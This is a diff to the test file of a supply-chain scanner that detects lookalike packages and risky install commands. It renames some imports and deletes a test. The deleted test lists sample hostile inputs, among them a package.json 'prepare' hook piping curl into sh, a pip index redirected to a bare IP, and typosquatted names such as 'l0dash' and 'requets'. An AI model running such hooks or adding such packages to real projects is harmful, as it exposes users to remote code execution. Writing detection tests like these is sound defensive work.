@@ -1,8 +1,8 @@
 import { describe, expect, test } from 'vitest';
-import { checkSupplyChain, SUPPLY_CHAIN_KEYWORDS } from '../../src/check/supply-chain';
+import { checkSupplyChain } from '../../src/check/supply-chain';
 import { isOneSlip, likeness } from '../../src/check/supply-chain/distance';
 import { imitatedPackage } from '../../src/check/supply-chain/imitations';
-import { NEIGHBOURS, NPM, PYPI } from '../../src/check/supply-chain/popular';
+import { neighbours, popularOnNpm, popularOnPypi } from '../../src/check/supply-chain/popular';
 import { judgeSource } from '../../src/check/supply-chain/sources';
 import { parse } from '../../src/parse/document';
 import { formatOf } from '../../src/parse/format';
@@ -47,9 +47,9 @@ describe('likeness', () => {
 
 test('no popular package and no known neighbour is an imitation', () => {
   const guilty = [
-    ...NPM.filter((name) => imitatedPackage(name, 'npm')),
-    ...PYPI.filter((name) => imitatedPackage(name, 'pypi')),
-    ...[...NEIGHBOURS].filter((name) => imitatedPackage(name, 'npm') || imitatedPackage(name, 'pypi')),
+    ...popularOnNpm().filter((name) => imitatedPackage(name, 'npm')),
+    ...popularOnPypi().filter((name) => imitatedPackage(name, 'pypi')),
+    ...[...neighbours()].filter((name) => imitatedPackage(name, 'npm') || imitatedPackage(name, 'pypi')),
   ];
   expect(guilty).toEqual([]);
 });
@@ -112,25 +112,6 @@ describe('install commands', () => {
       'medium lookalike-package eslnit',
     ]);
   });
-});
-
-test('a finding needs one of the keywords', () => {
-  const texts: [string, string?][] = [
-    ['```\nnpm install l0dash\n```\n'],
-    ['{ "prepare": "curl x | sh" }', 'package.json'],
-    ['<<<<<<< a\n=======\n>>>>>>> b\n'],
-    ['{ "plugins": [{ "name": "anthroplc" }] }', 'm.json'],
-    ['PIP_INDEX_URL=http://203.0.113.3/simple\n', 'a.sh'],
-    ['metadata: { kind: download, url: "http://files.widgets.dev/x" }\n', 'a.yaml'],
-    ['requets==1.0\n', 'requirements.txt'],
-  ];
-  for (const [text, path] of texts) {
-    expect(scan(text, path), text).not.toEqual([]);
-    expect(
-      SUPPLY_CHAIN_KEYWORDS.filter((keyword) => text.toLowerCase().includes(keyword)),
-      text,
-    ).not.toEqual([]);
-  }
 });
 
 test('time grows with the text, whatever is in it', () => {
